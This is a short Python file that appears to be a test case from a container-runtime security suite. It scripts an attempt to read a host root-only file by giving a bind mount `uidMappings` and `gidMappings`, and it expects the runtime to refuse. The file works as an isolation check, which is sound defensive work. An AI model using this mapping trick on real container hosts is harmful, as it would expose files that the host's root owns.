"""`uidMappings` of a mount make the container's user the owner of files that belong to the host's root."""

from bypass import refused

SOURCE = "idea"
WAY = "create"
BARE = {"runc": "runc 1.1.5 does not know the member, which came with 1.2"}
STOPPED = refused("mount-option")


def attack(t):
    t.plant("/srv/data/secret", 0o600)
    entry = t.bind("/srv/data", "/x", "bind")
    entry["uidMappings"] = entry["gidMappings"] = [{"containerID": 0, "hostID": 1000, "size": 1}]
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    return t.leaked(t.run("cat /x/secret"))
